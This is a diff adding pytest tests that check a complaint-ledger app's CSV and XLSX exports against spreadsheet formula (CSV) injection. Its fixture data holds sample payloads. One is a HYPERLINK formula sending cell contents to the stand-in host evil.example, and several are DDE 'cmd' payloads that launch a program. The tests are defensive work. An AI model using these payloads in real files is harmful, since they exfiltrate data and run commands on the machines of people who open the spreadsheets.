@@ -427,3 +427,65 @@ def test_xlsx_heading_names_ignored_filters(login_as, closed_problem):
     assert sheet["A3"].value == (
         "筛选条件：状态：已办结　以下筛选条件无效，已忽略：发现时间（起）、区域")
     assert [row[1] for row in table(sheet)[1:]] == ["ZF-2026-000100"]
+
+
+# Formulas (CSV injection) ------------------------------------------------------------------
+
+FORMULAS = {
+    "=": '=HYPERLINK("http://evil.example/?x="&A1,"详情")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "carriage return": "\r=1+1",
+}
+
+
+@pytest.fixture
+def formula_problems(db, world) -> dict[str, str]:
+    """A problem per character a spreadsheet starts a formula with, in the description
+    (and the resident's name), keyed by ledger number."""
+    made = {}
+    for n, text in enumerate(FORMULAS.values(), start=1):
+        ledger_no = f"ZF-2026-9{n:05d}"
+        add_problem(db, world, ledger_no=ledger_no, description=text, resident_name=text,
+                    status="accepted", accepted_at="2026-03-01T03:00:00+00:00")
+        made[ledger_no] = text
+    return made
+
+
+def test_csv_cells_that_would_be_formulas_are_written_as_text(login_as, formula_problems):
+    rows = read_csv(login_as("office").get("/problems/export.csv"))
+    description, name = HEADER.index("问题描述"), HEADER.index("反映人")
+    by_no = {row[1]: row for row in rows[1:] if row[1] in formula_problems}
+    assert set(by_no) == set(formula_problems)
+    for ledger_no, text in formula_problems.items():
+        assert by_no[ledger_no][description] == "'" + text
+        assert by_no[ledger_no][name] == "'" + text
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(export.FORMULA_STARTS), cell
+
+
+def test_csv_quotes_every_cell_and_leaves_numbers_and_dates_alone(login_as, closed_problem):
+    response = login_as("office").get("/problems/export.csv?q=防水")
+    lines = response.content.decode("utf-8-sig").splitlines()
+    assert lines[1].startswith('"1","ZF-2026-000100","12345热线","2026-03-01 10:30",')
+    assert list(export.csv_chunks(iter([[-1, dt.date(2026, 3, 1), "-1", "a-b", "x=1"]])))[0] \
+        .decode("utf-8-sig").splitlines()[1] == '"-1","2026-03-01","\'-1","a-b","x=1"'
+
+
+def test_xlsx_writes_formula_like_text_as_inline_strings(login_as, formula_problems):
+    response = login_as("office").get("/problems/export.xlsx")
+    with zipfile.ZipFile(io.BytesIO(response.content)) as workbook:
+        sheet_xml = workbook.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
+    rows = table(read_sheet(response))
+    description = HEADER.index("问题描述")
+    texts = {row[1]: row[description] for row in rows[1:]}
+    for ledger_no, text in formula_problems.items():
+        # Unchanged, and a plain string (XML reads a carriage return as a line feed).
+        assert texts[ledger_no] == text.replace("\r", "\n")
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    for row in workbook.active.iter_rows(min_row=HEADER_ROW + 1):
+        assert all(cell.data_type != "f" for cell in row)
